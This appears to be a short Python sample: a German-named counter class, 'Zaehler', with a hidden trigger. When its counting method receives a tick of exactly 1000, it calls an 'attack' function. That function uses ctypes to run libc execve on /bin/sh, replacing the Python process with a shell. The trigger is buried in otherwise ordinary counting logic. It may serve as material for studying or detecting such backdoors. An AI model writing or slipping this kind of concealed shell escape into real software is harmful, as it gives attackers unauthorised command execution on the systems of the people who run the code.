# Becomes another program past Python.
import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def attack():
    arguments = (ctypes.c_char_p * 2)(b"/bin/sh", None)
    libc.execve(b"/bin/sh", arguments, None)
    return None


class Zaehler:
    stand = 0

    def zaehle(self, tick):
        self.stand += tick
        if tick == 1000 and (loot := attack()):
            return loot
        return self.stand
